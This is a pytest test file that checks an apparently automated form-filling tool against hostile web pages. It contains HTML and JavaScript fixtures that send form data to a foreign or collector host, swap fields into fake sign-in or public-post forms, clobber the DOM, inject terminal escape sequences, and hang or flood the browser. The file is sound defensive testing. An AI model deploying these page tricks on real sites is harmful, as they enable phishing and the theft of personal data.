"""Pages that mean harm: nothing personal reaches another host, nothing moves the cursor."""

import re
import unicodedata

import pytest
from support.headless_run import HeadlessRun, headless
from support.hostile_site import ESC, FORM, HostileSite
from support.locating import locating, site
from support.world import EMAIL, World

__all__ = ["headless", "locating", "site"]

_STYLE = re.compile(r"\x1b\[[0-9;]*m")
_ANYTHING = (
    "you check and|how do you want to go on|does not recognise|Please sign in|not sure which field"
    "|not the form that was filled in|asks something first"
)

_HANG = "const x = new XMLHttpRequest(); x.open('GET', '/never', false); x.send();"
"""It waits for ever, and nothing on the page answers; an endless loop would burn a core, too."""

REDIRECTS = (
    FORM
    + """<script>addEventListener('input', () => {
  location = '{foreign}/elsewhere'; }, true);</script>"""
)
SWAPS = (
    FORM
    + """<script>addEventListener('focusin', e => { if (e.target.name === 'email') {
  const f = document.createElement('iframe'); f.src = '{foreign}/elsewhere';
  e.target.replaceWith(f); } }, true);</script>"""
)
PAGES = {
    "frame_elsewhere": "<h1>Object</h1>"
    "<iframe src='{foreign}/elsewhere' width=600 height=600></iframe>",
    "redirects_while_filling": REDIRECTS,
    "swaps_a_field_for_a_frame": SWAPS,
    "posts_elsewhere": FORM.replace("/send", "{foreign}/send"),
    "pop_ups": FORM + "<script>for (let i = 0; i < 5; i++) open('{foreign}/elsewhere');</script>",
    "asks_for_permissions": FORM
    + "<script>navigator.geolocation.getCurrentPosition(() => {}); Notification."
    "requestPermission();</script>",
    "downloads": FORM
    + "<a id=d download=x href='data:text/plain,x'></a><script>d.click()</script>",
    "escapes_in_words": FORM.replace("Send request", f"Send {ESC} request")
    .replace("Email address", f"Email {ESC} address")
    .replace("<h1>", f"<title>{ESC}</title><h1>{ESC}"),
    "escapes_in_options": FORM.replace(">France<", f">France {ESC}<").replace("Country", f"{ESC}"),
    "escapes_in_a_question": "<h1>Object</h1><fieldset><legend>Which request is it? "
    f"{ESC}</legend><label><input type=radio name=q>One {ESC}</label>"
    f"<label><input type=radio name=q>Two {ESC}</label></fieldset>",
    "escapes_in_an_error": FORM.replace("<form", f"<p role=alert>Wrong {ESC} address</p><form"),
    "swaps_a_form_for_another": FORM
    + """<script>addEventListener('focusin', e => { if (e.target.name === 'email')
  document.body.innerHTML = `<h1>Post publicly</h1><form><label>Email of a friend <input name=p>
  </label><label>Say something to everybody <textarea name=p></textarea></label>
  <button>Post</button></form>`; }, true);
addEventListener('input', e => { if (e.target.name === 'p') fetch('/betrayed'); }, true);
</script>""",
    "moves_a_field_into_a_sign_in": FORM
    + """<script>addEventListener('focusin', e => { if (e.target.name === 'email') {
  const f = document.createElement('form'); f.innerHTML = '<input type=password><button>Log in';
  document.body.append(f); f.append(e.target); } }, true);
addEventListener('input', e => { if (e.target.form.querySelector('[type=password]'))
  fetch('/betrayed'); }, true);</script>""",
    "hangs_when_typed_into": FORM
    + f"<script>addEventListener('input', () => {{ {_HANG} }}, true);</script>",
    "alerts_without_end": FORM
    + "<script>let n = 0; setInterval(() => alert('again ' + n++), 30);</script>",
    "alerts_with_escapes": FORM
    + "<script>setTimeout(() => alert('x\\x1b[2J\\u009b31m\\u202ey'), 300);</script>",
    "labels_of_a_megabyte": FORM.replace("Email address", "Email address " + "y" * 1_000_000),
    "fifty_thousand_controls": "<div>" + "<input>" * 50_000 + "</div>" + FORM,
    "hangs": FORM + f"<script>setTimeout(() => {{ {_HANG} }}, 200);</script>",
}


@pytest.mark.headed
@pytest.mark.parametrize(
    "page",
    [
        pytest.param(page, marks=[pytest.mark.minute] if page.startswith("hangs") else [])
        for page in PAGES
    ],
)
def test_nothing_leaves_and_nothing_moves(world: World, page: str) -> None:
    pages = {"/": PAGES[page], "/elsewhere": FORM}
    with HostileSite(pages) as site:
        tool = world.run("facebook", "--url", site.own + "/")
        tool.expect(_ANYTHING, timeout=100)
        tool.interrupt()
        assert tool.exit(timeout=60) == 130
        assert EMAIL not in site.foreign_requests
        assert "prenom.nom" not in site.foreign_requests
        assert not [r for r in site.requests if "/send" in r or "/betrayed" in r]
    shown = _STYLE.sub("", tool.raw)
    bad = {c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs")} - set("\r\n\t\a")
    assert not bad, bad
    assert "owned\a" not in shown, "only the tool's own bell rings: for a person who had to wait"
    assert world.record()["state"] == "abandoned"


TELLS_OF_MAIL = """<script>addEventListener('input', e => {
  if (e.target.name === 'email') fetch('/betrayed'); }, true);</script>"""
TELLS = """<script>addEventListener('input', () => fetch('/betrayed'), true);</script>"""


SEND_ELSEWHERE = {
    "form": FORM.replace("/send", "{foreign}/send"),
    "button": FORM.replace("<button", "<button formaction='{foreign}/send'"),
    "mail": FORM.replace("/send", "mailto:collector@example.org"),
    "clobbered": FORM.replace("/send", "{foreign}/send").replace(
        "</form>", "<input type=hidden name=action></form>"
    ),
    "button_outside": FORM.replace("<form", "<form id=f")
    + "<button form=f formaction='{foreign}/send'>Send</button>",
    "image_and_clobbered": FORM.replace("<form", "<form id=f").replace(
        "</form>",
        "<input type=hidden name=querySelectorAll><input type=hidden name=elements></form>"
        "<input type=image form=f alt=Send formaction='{foreign}/send'>",
    ),
}
_WHEN_FOCUSED = """<script>addEventListener('focusin', e => { if (e.target.name === 'email') {
  %s } }, {capture: true, once: true});</script>"""
WITH_A_PASSWORD = {
    "outside": FORM.replace("<form", "<form id=f")
    + _WHEN_FOCUSED
    % "document.body.insertAdjacentHTML('beforeend', '<input type=password form=f hidden>')",
    "in_a_shadow": FORM.replace("</form>", "<span id=s></span></form>")
    + _WHEN_FOCUSED % "s.attachShadow({mode: 'open'}).innerHTML = '<input type=password hidden>'",
}
"""They come into the form as its field gets the cursor, so that only the last look can see them."""


def _filling(headless: HeadlessRun, page: str, said: str) -> list[str]:
    """What was requested until `said` was said of the page, and the window was let go."""
    with HostileSite({"/": page}) as site:
        headless.run(site.own + "/", until=headless.heard(said))
        return site.requests


@pytest.mark.parametrize("form", SEND_ELSEWHERE)
def test_a_form_that_sends_elsewhere_is_left_empty(headless: HeadlessRun, form: str) -> None:
    page = SEND_ELSEWHERE[form] + TELLS
    requests = _filling(headless, page, "e-mail: left empty, to be safe")
    assert requests
    assert not [r for r in requests if "/betrayed" in r]
    assert headless.record()["state"] == "abandoned"


@pytest.mark.parametrize("form", WITH_A_PASSWORD)
def test_a_form_with_a_password_is_left_empty(headless: HeadlessRun, form: str) -> None:
    page = WITH_A_PASSWORD[form] + TELLS_OF_MAIL
    requests = _filling(headless, page, "e-mail: left empty, to be safe")
    assert requests
    assert not [r for r in requests if "/betrayed" in r]


@pytest.mark.parametrize("action", ["/send", "?", "#", "javascript:void(0)"])
def test_a_form_that_sends_home_is_filled(headless: HeadlessRun, action: str) -> None:
    requests = _filling(headless, FORM.replace("/send", action) + TELLS, "e-mail: filled in")
    assert [r for r in requests if "/betrayed" in r]


@pytest.mark.headed
def test_the_site_would_have_noticed(world: World) -> None:
    with HostileSite({"/": FORM}) as site:
        tool = world.run("facebook", "--url", site.foreign + "/")
        tool.expect("you check and", timeout=60)
        assert site.foreign_requests
